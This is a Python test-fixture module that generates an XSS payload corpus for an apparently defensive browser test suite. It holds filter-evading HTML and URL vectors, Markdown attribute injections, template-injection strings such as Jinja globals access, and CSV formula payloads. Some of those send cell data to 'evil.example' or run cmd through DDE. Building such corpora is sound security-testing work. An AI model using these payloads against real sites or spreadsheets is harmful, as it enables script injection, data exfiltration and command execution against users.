"""A corpus of cross-site scripting payloads for the real-browser XSS suite.

The payloads are generated from a few dozen base vectors, each put through a
few wrappers (attribute and element breakouts, Markdown contexts) or link
forms (HTML, Markdown inline, reference-style, autolink, image), plus
Markdown-specific tricks, template-injection strings and CSV formulas.

Every payload that could execute leaves a trace the test can see: it calls
``alert(1)`` (a dialog), sets ``window.__xss = 1`` or sets the document title
to ``XSS`` — all written without quotes or spaces (``/XSS/.source``) so that
they survive unquoted attributes. Template-injection payloads compute
``1337*1337``: the page must never show ``TEMPLATE_RESULT``.

No payload contains NUL or other control characters besides tab and newline
(PostgreSQL rejects NUL; they are not what this corpus is about), and none
has leading or trailing whitespace (forms and imports strip it, which would
make "stored as typed" ambiguous).
"""
from __future__ import annotations

import itertools

# What a payload does if it ever runs. Rotated over the base vectors so that each kind of
# trace is exercised; ALERT is used where the code runs in a nested document (an iframe).
ALERT = "alert(1)"
FLAG = "window.__xss=1"
TITLE = "document.title=/XSS/.source"
ALL = "window.__xss=1;document.title=/XSS/.source;alert(1)"
JS_VARIANTS = (ALL, ALERT, FLAG, TITLE)
TITLE_MARKER = "XSS"
TEMPLATE_RESULT = str(1337 * 1337)  # "1787569": what an evaluated template-injection payload would print

# Base vectors with a {js} slot: script tags, event handlers, dangerous elements and attributes.
HTML_VECTORS = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script type=module>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<<script>script>{js}<</script>/script>",
    "<script src=data:text/javascript,{js}></script>",
    "<script/src=data:,{js}></script>",
    "<script>/*</script><img src=x onerror={js}>*/</script>",
    "<img src=x onerror={js}>",
    "<IMG SRC=x OnErRoR={js}>",
    '<img src="x" onerror="{js}">',
    "<img/src=x/onerror={js}>",
    "<img src=x onerror=&#x61;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>{js}</script>">',
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{js}"><text x=20 y=20>XSS</text></a></svg>',
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>",
    '<math href="javascript:{js}">CLICK</math>',
    "<body onload={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<iframe onload={js}></iframe>",
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<object data="javascript:{js}"></object>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:{js}">',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<form action="javascript:{js}"><button>go</button></form>',
    '<form><button formaction="javascript:{js}">go</button></form>',
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    '<div onmouseover="{js}">hover me</div>',
    "<x onclick={js}>click</x>",
    "<marquee onstart={js}>x</marquee>",
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<base href="javascript:{js}//">',
    '<link rel=stylesheet href="javascript:{js}">',
    "<style>@import 'javascript:{js}';</style>",
    '<div style="background:url(javascript:{js})">x</div>',
    '<div style="width:expression({js})">x</div>',
    '<table background="javascript:{js}"><tr><td>x</td></tr></table>',
    "<!--<img src=x onerror={js}>-->",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<a href="#" onclick="{js}">x</a>',
    "＜script＞{js}＜/script＞",
)

# How an HTML vector is presented: as is, breaking out of a quoted attribute, breaking out of
# elements whose content is text, and as Markdown link text.
HTML_WRAPPERS = (
    "{v}",
    "\"'>{v}",
    "</title></textarea></style></script>{v}",
    "[{v}](https://example.org/)",
)

# URLs that run script when followed or loaded.
URL_VECTORS = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "javascript://%0a{js}",
    "java\tscript:{js}",
    "java&#x09;script:{js}",
    "jav&#x0A;ascript:{js}",
    "&#106;avascript:{js}",
    "&#0000106;&#0000097;vascript:{js}",
    "&#x6A;&#x61;vascript:{js}",
    "javascript&colon;{js}",
    "javascript&#58;{js}",
    "%6Aavascript:{js}",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
)

# Where a URL is put: HTML attributes and every Markdown link form ({n} makes labels unique).
URL_FORMS = (
    '<a href="{u}">x</a>',
    '<img src="{u}">',
    "[x]({u})",
    "[x]( {u} )",
    "[x](<{u}>)",
    "![x]({u})",
    "[x][r{n}]\n\n[r{n}]: {u}",
    "<{u}>",
)

# Markdown constructs that carry text into attributes or unusual places.
MARKDOWN_TRICKS = (
    '[x](https://example.org/ "t\\" onmouseover=\\"{js}")',
    "[x](https://example.org/ 'a\" onmouseover=\"{js}')",
    "[x](https://example.org/ \"a' onmouseover='{js}'\")",
    "[x][t{n}]\n\n[t{n}]: https://example.org/ \"a\\\" onmouseover=\\\"{js}\"",
    "![x\" onerror=\"{js}](images/dot.png)",
    "![x](images/dot.png \"t\\\" onerror=\\\"{js}\")",
    "[x](#c-\" onclick=\"{js})",
    "<mailto:x@example.org\" onmouseover=\"{js}>",
    "<x@example.org\"><script>{js}</script>>",
    "Claim[^f{n}].\n\n[^f{n}]: <img src=x onerror={js}> [y](https://example.org/ \"\\\" onclick=\\\"{js}\")",
    '!!! warning "<img src=x onerror={js}>"\n    <script>{js}</script> body',
    '!!! note "\\" onmouseover=\\"{js}"\n    body',
    '!!! danger onmouseover={js}\n    body',
    "*[XSS{n}]: \" onmouseover=\"{js}\n\nXSS{n} here",
    "*[ABBR{n}]: <img src=x onerror={js}>\n\nABBR{n} here",
    "| <script>{js}</script> | [x](https://example.org/) |\n| --- | --- |\n| <b onclick={js}>1</b> | 2 |",
    "## <img src=x onerror={js}> heading {n}",
    "## heading {n} {{: onclick=\"{js}\" }}",
    "Term {n}\n:   <iframe src=javascript:{js}></iframe>",
    "`<script>{js}</script>` in code {n}",
    "```html\n<script>{js}</script> fenced {n}\n```",
    "&lt;script&gt;{js}&lt;/script&gt; entities {n}",
    "\\<script\\>{js}\\</script\\> escaped {n}",
    "<!-- --><script>{js}</script><!-- --> {n}",
    "> quote {n} <img src=x onerror={js}>",
    "- item {n} <svg onload={js}>",
    "**bold {n} <img src=x onerror={js}>**",
)

# Template engines: none of these may be evaluated (Jinja on the server, any framework on the page).
TEMPLATE_INJECTIONS = (
    "{{1337*1337}}",
    "{{ 1337*1337 }}",
    "${1337*1337}",
    "#{1337*1337}",
    "<%= 1337*1337 %>",
    "{{=1337*1337}}",
    "{% print(1337*1337) %}",
    "[[${1337*1337}]]",
    "@(1337*1337)",
    "{{ config }}",
    "{{ self.__init__.__globals__ }}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
)

# Spreadsheet formulas: harmless on a page, dangerous in an exported CSV.
CSV_FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    '=HYPERLINK("javascript:alert(1)","x")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("https://evil.example/")',
    "%0A=1+1",
)


def _generate() -> tuple[str, ...]:
    counter = itertools.count(1)
    found: dict[str, None] = {}

    def add(text: str) -> None:
        found.setdefault(text.replace("{n}", str(next(counter))), None)

    for index, vector in enumerate(HTML_VECTORS):
        js = JS_VARIANTS[index % len(JS_VARIANTS)]
        for wrapper in HTML_WRAPPERS:
            add(wrapper.replace("{v}", vector.replace("{js}", js)))
    for index, url in enumerate(URL_VECTORS):
        js = JS_VARIANTS[index % len(JS_VARIANTS)]
        for form in URL_FORMS:
            add(form.replace("{u}", url.replace("{js}", js)))
    for index, trick in enumerate(MARKDOWN_TRICKS):
        add(trick.replace("{js}", JS_VARIANTS[index % len(JS_VARIANTS)]).replace("{{", "{").replace("}}", "}"))
    for text in (*TEMPLATE_INJECTIONS, *CSV_FORMULAS):
        found.setdefault(text, None)
    return tuple(found)


PAYLOADS: tuple[str, ...] = _generate()
SINGLE_LINE: tuple[str, ...] = tuple(p for p in PAYLOADS if "\n" not in p)


def fitting(limit: int, *, single_line: bool = False) -> tuple[str, ...]:
    """The payloads that fit a column of `limit` characters (and, if asked, hold no newline)."""
    pool = SINGLE_LINE if single_line else PAYLOADS
    return tuple(p for p in pool if len(p) <= limit)


def is_template_injection(payload: str) -> bool:
    return payload in TEMPLATE_INJECTIONS


assert len(PAYLOADS) >= 200, len(PAYLOADS)
assert all(p == p.strip() and "\x00" not in p for p in PAYLOADS)
